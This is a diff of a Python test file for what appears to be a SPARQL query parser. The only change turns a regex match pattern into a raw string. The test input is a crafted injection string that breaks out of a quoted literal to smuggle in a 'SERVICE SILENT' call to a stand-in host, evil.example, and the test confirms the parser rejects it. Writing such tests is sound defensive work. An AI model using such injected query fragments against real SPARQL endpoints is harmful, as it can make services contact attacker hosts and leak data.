@@ -151,7 +151,7 @@ def test_a_part_alone_stays_where_people_see_it() -> None:
 
 def test_a_comparison_cannot_hide_what_a_part_asks() -> None:
     inside = "?s ?p ?o FILTER(' '<'>') SERVICE SILENT <http://evil.example/> {} } LIMIT 9 #'"
-    with pytest.raises(QuerySyntax, match="string is opened|write a space"):
+    with pytest.raises(QuerySyntax, match=r"string is opened|write a space"):
         take_apart(f"SELECT ?s {{ SERVICE <{PEER}> {{ {inside}}} }}", BASE)
 
 
